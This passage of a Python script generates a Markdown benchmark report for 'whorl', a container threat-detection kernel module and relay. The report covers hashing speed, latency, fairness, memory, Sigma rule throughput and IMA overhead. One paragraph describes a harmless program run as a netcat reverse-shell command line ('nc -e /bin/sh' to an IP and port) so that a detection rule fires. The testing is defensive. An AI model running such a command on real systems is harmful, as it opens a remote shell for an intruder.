    a("**Wherever the scheduler puts it, wall clock.** Two vCPUs, each on its own host thread:")
    a("the worker usually hashes on the CPU the exec is not using.")
    a("")
    first_table(v, samples, fmt_ns)

    a("## Fingerprint throughput")
    a("")
    a(f"Each loaded first sight's {size_s} file, hashed by the module's worker and then, right after,")
    a("by userspace in the same guest, through the container's overlay mount as the kernel read it.")
    a("The module's rate is Δ`bytesHashed` / Δ`hashNanoseconds` (`whorl status --json`) over the")
    a("first sight (reading the file included; a few small programs the exec ran count too);")
    a("userspace's is the file size over the command's wall time less its start-up (the same command")
    a("on an empty file). The targets compare the two file by file (median of the ratios).")
    a("")
    a("| SHA-256 of the file | guest: hashing | guest: whole command | start-up | host, whole command (scale) |")
    a("|---|---|---|---|---|")
    a(f"| whorl (kernel, `{gi('hash.kernel.driver')}`) | {fmt_rate(v['hash.kernel'])} | — | — | — |")
    for t, label in (("openssl", f"`openssl dgst -sha256` ({gi('hash.openssl')})"),
                     ("sha256sum", "coreutils `sha256sum`"), ("busybox", "busybox `sha256sum`")):
        a(f"| {label} | {fmt_rate(v[f'hash.{t}'])} | {fmt_rate(v[f'hash.{t}.raw'])} | "
          f"{fmt_ns(v[f'hash.{t}.startup'])} | {fmt_rate(v.get(f'host.{t}'))} |")
    a("")
    a(f"Kernel samples: {', '.join(fmt_rate(y) for y in samples.get('hash.kernel.Bps', []))}.")
    a("")
    a("The same on the instruction clock (rates in bytes per 10⁹ instructions, written MB/s; the")
    a("first sights there are on one CPU, see above), where AVX2 code counts what it executes, as")
    a("on hardware, rather than what emulating it costs:")
    a("")
    a("| SHA-256 of the file | instruction clock: hashing | kernel's rate against it (median of files) |")
    a("|---|---|---|")
    a(f"| whorl (kernel, `{(iinfo_driver or ['n/a'])[0]}`) | {fmt_rate(iv['hash.kernel'])} | — |")
    for t, label in (("openssl", "`openssl dgst -sha256`"), ("sha256sum", "coreutils `sha256sum`"),
                     ("busybox", "busybox `sha256sum`")):
        r = iv[f"hash.{t}.ratio"]
        a(f"| {label} | {fmt_rate(iv[f'hash.{t}'])} | {'n/a' if r is None else f'{r * 100:.0f} %'} |")
    a("")
    cm = re.search(r"\(\s*(\d+)U?\s*<<\s*(\d+)\s*\)", m.get("hash_step", ""))
    kr = v["hash.kernel"]
    if cm and kr:
        step = int(cm.group(1)) << int(cm.group(2))
        a(f"The module reads 256 KiB at a time and hashes {step // 1024} KiB per crypto update")
        a("(`WHORL_HASH_STEP`), with a chance to reschedule between updates: x86's SIMD drivers run")
        a("each update between `kernel_fpu_begin()` and `kernel_fpu_end()`, with preemption off. At")
        a(f"the rate measured here an update holds the CPU for {fmt_ns(step / kr * 1e9)}.")
    a("")
    a(f"The guest's CPU: {gi('cpu')}. TCG emulates each instruction set at its own cost: AVX2 costs")
    a("far more per byte under emulation than scalar C, so the ranking here is not the native one.")
    a("At load the module times each SHA-256 driver the kernel has registered on a 64 KiB buffer")
    a("and keeps the fastest, as the kernel picks its RAID6 and XOR code at boot (on real x86")
    a("hardware that is the SHA-NI or AVX2 driver the kernel prefers anyway). Its trial here:")
    a("")
    trial = info.get("hash.kernel.trial", [])
    last = max((i for i, y in enumerate(trial) if "preferred" in y), default=0)
    for y in trial[last:]:	# the module's last load
        a(f"- {y}")
    a(f"- kept: `{gi('hash.kernel.driver')}`")
    a("")

    a("## Finding latency")
    a("")
    a("A program matched by a name rule runs in the container, one exec every 50 ms, each reported")
    a("(report-once window 0). Latency = the time `bench-lines` read the relay's JSON line minus the")
    a("finding's `eventTime`, both CLOCK_REALTIME in the guest; `eventTime` is taken at the")
    a("`sched_process_exec` tracepoint, when the exec has succeeded. It spans the queue, the worker,")
    a("netlink, the relay's enrichment and its JSON output.")
    a("")
    a("| findings | p50 | p99 | max |")
    a("|---|---|---|---|")
    a(f"| {v['lat.n']} | {fmt_ns(v['lat.p50'])} | {fmt_ns(v['lat.p99'])} | {fmt_ns(v['lat.max'])} |")
    a("")
    a("**A Sigma rule's match.** The relay runs with the shipped rules (`--rules`); a harmless")
    a("program copied into the container as `/tmp/nc` runs as `nc -e /bin/sh 10.0.0.9 4444`, one")
    a("exec every 50 ms, each matched by `rules/netcat_remote_code_execution.yml` (the first two, the")
    a("program's first sight, left out). Latency as above: from the exec's `eventTime` to the")
    a("finding's line read; it spans the exec event's capture, the worker, netlink, the relay's")
    a("process tree, the rules and the JSON output.")
    a("")
    a("| findings | p50 | p99 | max |")
    a("|---|---|---|---|")
    a(f"| {v['rlat.n']} | {fmt_ns(v['rlat.p50'])} | {fmt_ns(v['rlat.p99'])} | {fmt_ns(v['rlat.max'])} |")
    a("")
    fr = gi("rule.finding")
    if fr != "n/a":
        a(f"The first finding, cut at 300 characters: `{fr}`")
        a("")

    a("## Fairness: latency while another container floods")
    a("")
    a("Two containers of the image. The victim runs the name-rule program as above (every exec")
    a("reported), with no flood and then while the other container floods, one flood at a time")
    a("(tests/bench/t-30-fairness.sh): **files**, changing and mapping executable "
      f"{gi('fairness').split('files: ')[-1].split(';')[0] if gi('fairness') != 'n/a' else 'n/a'} as fast as it can "
      "(every mapping new content to hash); **execs**, a cached program in a loop; **fuse**, a "
      "library mapped from each of four FUSE servers that never answer a read (each holds one of the "
      "flooder's two workers for `read_timeout`, then a `whorl-read` thread). Latency as above, the "
      "victim's findings only. The counts are what `whorl status` said over the flood: events dropped, "
      "refused past a container's share of the queue, reads cut; and its `containers[]` lines, which "
      "charge the refusals to the flooder or the victim (since the module's load).")
    a("")
    a("| flood | victim findings | p50 | p99 | max | workDropped | workOverShare | readTimeouts | charged to the flooder / the victim |")
    a("|---|---|---|---|---|---|---|---|---|")
    for f in FLOODS:
        x = v[f"fair.{f}"]
        if not x["n"]:
            a(f"| {f} | none measured | | | | | | | |")
            continue
        if f == "quiet":
            cnt = "— | — | — | —"
        else:
            cnt = (f"{x['workDropped']} | {x['workOverShare']} | {x['readTimeouts']} | "
                   f"{x['flooder.workOverShare']} / {x['victim.workOverShare']}")
        a(f"| {f} | {x['n']} | {fmt_ns(x['p50'])} | {fmt_ns(x['p99'])} | {fmt_ns(x['max'])} | {cnt} |")
    a("")

    a("## Memory")
    a("")
    vi = v["vmallocinfo"]
    a("| | |")
    a("|---|---|")
    a(f"| per fingerprint cache entry (`cache.entryBytes`: slab object + bucket share) | {v['entry']} bytes |")
    for y in info.get("cache.slab", []):
        a(f"| `whorl_cache_entry` in /proc/slabinfo | {y} |")
    a(f"| intel hashes loaded | {v['intel.n'] or 0:,} ({gi('intel.feed')}) |")
    a(f"| intel set, the module's figure (`intel.bytes`) | {'n/a' if ib is None else f'{ib:,} bytes ({ib / MIB:.1f} MiB)'} |")
    a(f"| VmallocUsed delta (/proc/meminfo) | {'n/a' if vm is None else f'{vm:,} kB ({vm / 1024:.1f} MiB)'} |")
    a(f"| /proc/vmallocinfo areas allocated by `[whorl]` (delta, guard pages included) | {'n/a' if vi is None else f'{vi:,} bytes ({vi / MIB:.1f} MiB)'} |")
    a(f"| Slab delta / SUnreclaim delta (/proc/meminfo) | {v['slab']} kB / {v['sunreclaim']} kB |")
    a(f"| time to load them (`whorl intel load`, median of {len(samples.get('intel.load.ns', []))}) | {fmt_ns(load)} |")
    a(f"| … CPU time of the tool in its own code (parsing) / in the kernel (netlink, the module building the set) | "
      f"{fmt_ns(v['intel.user'])} / {fmt_ns(v['intel.sys'])} |")
    a(f"| the tool parsing the same feed natively on the host (`whorl intel load` with no module there: it parses "
      f"the whole feed first), wall / CPU | {fmt_ns(v['host.parse'])} / {fmt_ns(v['host.parse.user'])} |")
    a("")
    a(f"Before and after (module loaded with an empty set, then after the loads; `drop_caches` first): "
      f"{gi('mem.meminfo')}. /proc/slabinfo {gi('mem.slabinfo')}.")
    a("")

    a("## The relay natively: Sigma rules and the process tree")
    a("")
    a("On the host, after the guests, with the machine otherwise idle and no module needed: the")
    a("relay's own code, pinned to one core (`taskset -c 0`).")
    a("")
    a("**The event stream.** Recorded in this run's wall-clock guest: the relay with the shipped")
    a("rules and `--exec-log` while a container ran a workload of its image's programs (ls, cat,")
    a("head, id, uname, env, stat, sha256sum, mkdir, cp, xz, unxz, rm, sh; each round one of netcat")
    a("`-e`, a base64 ELF header on a command line, a proxy in the environment), "
      f"{(samples.get('stream.events') or ['n/a'])[0]} execs as the module captured them and the relay "
      f"judged them; kept in build/logs/bench/exec-stream.jsonl ({hmed('stream.kept') or 0:.0f} events, "
      f"{hmed('stream.images') or 0:.0f} distinct programs). `whorl rules bench` replays it through the rules "
      "(matching alone: the JSON is parsed before the clock starts); `exec-bench` "
      "(userspace/tests/exec_bench.c) turns the same events into the module's `WHORL_CMD_EXEC` messages "
      "and times the relay's whole per-exec path (parse, process tree, Sigma event, every rule, an "
      "SCC finding rendered for every match, whatever its level: the relay renders only those at "
      "`--min-level`, medium by default, and above; SigmaHQ's low-level discovery rules match much "
      "of this workload).")
    a("")
    a(f"Rules: the shipped rules ({hinfo('rules.shipped')}) and SigmaHQ's ({sig}).")
    a("")
    a("| | exec events per second, one core (median of runs) | runs |")
    a("|---|---|---|")
    a(f"| `whorl rules bench`: matching | {'n/a' if eps is None else f'{eps:,.0f}'} | "
      f"{', '.join(f'{x:,}' for x in hs.get('rules.eps', []))} |")
    reps = hmed("relay.eps")
    a(f"| exec-bench: the relay's per-exec path | {'n/a' if reps is None else f'{reps:,.0f}'} | "
      f"{', '.join(f'{x:,}' for x in hs.get('relay.eps', []))} |")
    a("")
    for y in hi.get("rules.bench", [])[:2] + hi.get("relay.bench", [])[:2]:
        a(f"    {y}")
    a("")
    a(f"**The process tree.** {TREE_LIVE:,} distinct execs recorded in a tree with the relay's own "
      f"bounds ({hmed('tree.max') or 0:,.0f} execs, {(hmed('tree.max_bytes') or 0) / MIB:.0f} MiB: "
      "`WHORL_PROCTREE_MAX`, `WHORL_PROCTREE_BYTES`), each a live process (none exits, nothing is "
      "swept), its path and argv those of the next event of userspace/tests/sigma/replay-benign.jsonl "
      "(a container workload: entrypoints, apt, a gcc build, servers), cycled "
      "(tests/bench/host/proctree-mem.c). Then the same with a 1 KiB argument added to every "
      "argv (the tree keeps 1 KiB of argv): long command lines, where the byte bound evicts "
      "the least recently used instead of growing. Memory: the tree's own count (nodes and "
      "strings), and the process's VmRSS and VmHWM growth over the filling (the bucket array "
      "and the allocator's overhead included).")
    a("")
    a("| execs | path + argv per exec | held | evicted | the tree's count | RSS growth | VmHWM growth | per exec (RSS) | CPU per exec recorded |")
    a("|---|---|---|---|---|---|---|---|---|")
    for p, label in (("tree.", "replay-benign"), ("tree.long.", "+ 1 KiB argument")):
        n_, st_, ev_ = hmed(p + "n"), hmed(p + "str_bytes"), hmed(p + "evicted")
        b_, r_, h_, t_ = hmed(p + "bytes"), hmed(p + "rss_bytes"), hmed(p + "hwm_bytes"), hmed(p + "add_ns")
        if None in (n_, st_, ev_, b_, r_, h_):
            a(f"| {TREE_LIVE:,}, {label} | n/a | | | | | | | |")
            continue
        a(f"| {TREE_LIVE:,}, {label} | {st_:.0f} bytes | {n_:,.0f} | {ev_:,.0f} | {b_ / MIB:.1f} MiB | "
          f"{r_ / MIB:.1f} MiB | {h_ / MIB:.1f} MiB | {r_ / max(n_, 1):.0f} bytes | {fmt_ns(t_)} |")
    a("")
    a("## The incumbent: IMA")
    a("")
    a("The same guest and container, whorl unloaded. The guest boots with no `ima_policy=`: IMA is")
    a("built into Debian's kernel but, with no policy, measures nothing. The workloads run, then this")
    a("policy is written to `/sys/kernel/security/ima/policy` (Debian's kernel takes one write, and")
    a("it cannot be taken back) and they run again:")
    a("")
    a("```")
    a(gi("ima.policy").replace("; ", "\n"))
    a("```")
    a("")
    a("Not `ima_policy=tcb` for the baseline: the built-in tcb policy exempts tmpfs, procfs and the")
    a("like but not overlayfs, so a tcb boot already measures every program and library a container")
    a("runs (and every file root reads) and has no IMA-free baseline for these workloads. IMA hashes")
    a("synchronously, inside the exec or the mmap, the first time it sees a file; afterwards its")
    a("per-inode state answers. Ratios of medians (before, then after: no alternation possible).")
    a("")
    a("| workload | IMA's overhead p50, instruction clock | whorl's, instruction clock (loaded/unloaded) | "
      "p50 with the policy, wall | p50 without, wall | IMA's overhead p50, wall | whorl's, wall (loaded/unloaded) |")
    a("|---|---|---|---|---|---|---|")
    for w in CACHED:
        x, y = v["ima." + w], iv["ima." + w]
        a(f"| {NAMES[w]} | {fmt_pct(y['p50'])} | {fmt_pct(iv[w]['p50'])} | {fmt_ns(x['p50.on'])} | "
          f"{fmt_ns(x['p50.off'])} | {fmt_pct(x['p50'])} | {fmt_pct(v[w]['p50'])} |")
    x, y = v["ima.first"], iv["ima.first"]
    a(f"| {NAMES['first']} {size_s} | {fmt_pct(y['mean'])} | {fmt_pct(iv['first']['mean'])} (its hash on the "
      f"exec's CPU) | {fmt_ns(x['mean.on'])} | {fmt_ns(x['mean.off'])} | {fmt_pct(x['mean'])} | "
      f"{fmt_pct(v['first']['mean'])} |")
    a("")
    a(f"IMA's measurement list grew by {v['ima.count']} entries under the policy ({gi('ima.measurements')}).")
    ent = info.get("ima.entry", [])
    if ent:
        a("For example:")
        a("")
        a("```")
        for y in ent[:3]:
            a(y.strip())
        a("```")
    a("")
    a("IMA and EVM in the guest's kernel log:")
    a("")
    a("```")
    for y in console[:24]:
        a(y)
    a("```")
    a("")

    a("## Scale: the guest against the host")
    a("")
    a("| same work | guest (TCG) | host (native) | guest slower by |")
    a("|---|---|---|---|")
    for tool in ("openssl", "sha256sum"):
        g, h = v[f"hash.{tool}.raw"], v[f"host.{tool}"]
        a(f"| {tool}, {size_s}, whole command | {fmt_rate(g)} | {fmt_rate(h)} | {'n/a' if not (g and h) else f'{h / g:.1f}×'} |")
    ge, he = v["guest.exec"], v["host.exec"]
    a(f"| fork + exec + wait, static program (p50) | {fmt_ns(ge)} | {fmt_ns(he)} | {'n/a' if not (ge and he) else f'{ge / he:.1f}×'} |")
    a("")

    a("## Reading the results")
    a("")
    for para in (
        "**Cached exec and mmap.** On the instruction clock each round repeats to within a few "
        "instructions, so the ranges in brackets are narrow and the medians settle the 2 % and 5 % "
        "targets; on the wall clock the spread between rounds is wider than the targets, which one "
        "boot cannot settle either way. What an executable mapping costs: the probe machinery "
        "(empty kprobes, above), then whorl's handler. A mapping the module judged before, the "
        "same unchanged file under the same intel and configuration, is answered by the per-CPU "
        "memo (the file's real inode, i_version, times and size, read before the verdict) without "
        "the container lookup, the layer, the cache and intel; a first mapping pays them all. The "
        "module registers plain kprobes in both modes; enforce mode refuses from them.",
        "**First sight.** No exec waits for its hash: the worker hashes after the exec, in a thread "
        "of the module's own that lives at nice 19 (`hash_nice`), offering the CPU back every "
        "16 KiB. On the instruction clock the worker shares the exec's own CPU and the exec ends "
        "before it gets a turn; so does the control's spinner. (When the worker was a shared "
        "kworker woken at nice 0, an 8 MiB first sight there took 1.9 to 7.0 million instructions "
        "against 1.0 million unloaded: it ran first.) On the wall clock, with a CPU "
        "each, the loaded exec is slower than the control by more than the control is slower than "
        "the unloaded one: that part is not explained yet. The exec's own path on a first sight "
        "(the hook, the event, the queueing) costs what the cached rows show; what the other vCPU's "
        "hashing does to this one through the emulator, or through shared pages, was not separated. "
        "IMA, which hashes inside the exec, shows what a synchronous hash costs.",
        "**Hashing speed.** The module times the kernel's SHA-256 drivers at load and keeps the "
        "fastest on the machine: under TCG's wall clock the generic C code (emulated SIMD is slow), "
        "on the instruction clock and on hardware a SIMD driver. Against userspace it is compared "
        "file by file, on both clocks; the rest of the gap is the read through the page cache.",
        "**Finding latency.** It includes the worker's place in the queue and its wait, at nice 19, "
        "for a CPU no runnable task wants: the price of never taking the CPU from the program. "
        "`hash_nice` trades it back. Under a flood, another container holds at most two of the "
        "four workers (Fairness).",
        "**Intel load time.** The tool parses the text feed and sends each distinct label once, "
        "then the hashes as packed 36-byte records; the module places each record in its index. "
        "Under emulation the tool's parsing is most of it, then the zeroing of the fresh memory "
        "the feed, the parsed set and the module's set are read into, then the copies through "
        "the page cache and netlink; the module's own work on the records is about a tenth (a "
        "perf profile of one load in this guest). The estimate row scales the load by the "
        "tool's own guest/host slowdown.",
    ):
        a(para)
        a("")

    failed = [c for st, c in tap if st == "not ok"]
    if failed:
        a("## Guest failures")
        a("")
        for c in failed:
            a(f"- {c}")
        a("")
    return "\n".join(L) + "\n"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--data", required=True)
    ap.add_argument("--console", required=True)
    ap.add_argument("--calibration", required=True)
    ap.add_argument("--host", default="")
    ap.add_argument("--guest-rc", type=int, default=0)
    ap.add_argument("--data-icount", required=True)
    ap.add_argument("--icount-rc", type=int, default=0)
    ap.add_argument("--smoke", action="store_true")
    ap.add_argument("--out")
    ap.add_argument("--meta", action="append", default=[])
    o = ap.parse_args()

    try:
        samples, info, tap = parse(o.data)
    except OSError as e:
        samples, info, tap = {}, {}, [("not ok", f"data channel - {e}")]
    calib = load_calibration(o.calibration)
    v = compute(samples, info, calib)
    try:
        isamples, iinfo, itap = parse(o.data_icount)
    except OSError as e:
        isamples, iinfo, itap = {}, {}, [("not ok", f"data channel - {e}")]
    iv = compute(isamples, iinfo, calib)
    ic = (isamples, iv, itap, o.icount_rc, iinfo)
    try:
        hsamples, hinfo, _ = parse(o.host)
    except OSError:
        hsamples, hinfo = {}, {}
    hd = (hsamples, hinfo)
    if o.smoke:
        return smoke(samples, v, tap, o.guest_rc, ic, hd)

    console = []
    try:
        with open(o.console, errors="replace") as f:
            for line in f:
                if re.search(r"\b(ima|evm|integrity): ", line):
                    console.append(line.rstrip("\n"))
    except OSError:
        pass
    text = markdown(v, samples, info, o.meta, console, o.guest_rc, tap, ic, hd)
    with open(o.out, "w") as f:
        f.write(text)
    summary = text.split("## Targets", 1)[1].split("\n## ", 1)[0]
    print("Targets" + summary.rstrip())
    print(f"(written to {o.out})")
    missing = [k for k in SMOKE_KEYS if not samples.get(k)]
    missing += [f"icount: {k}" for k in SMOKE_KEYS_ICOUNT if not isamples.get(k)]
    missing += [f"host: {k}" for k in SMOKE_KEYS_HOST if not hsamples.get(k)]
    if missing:
        print(f"bench: no figure for: {', '.join(missing)}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
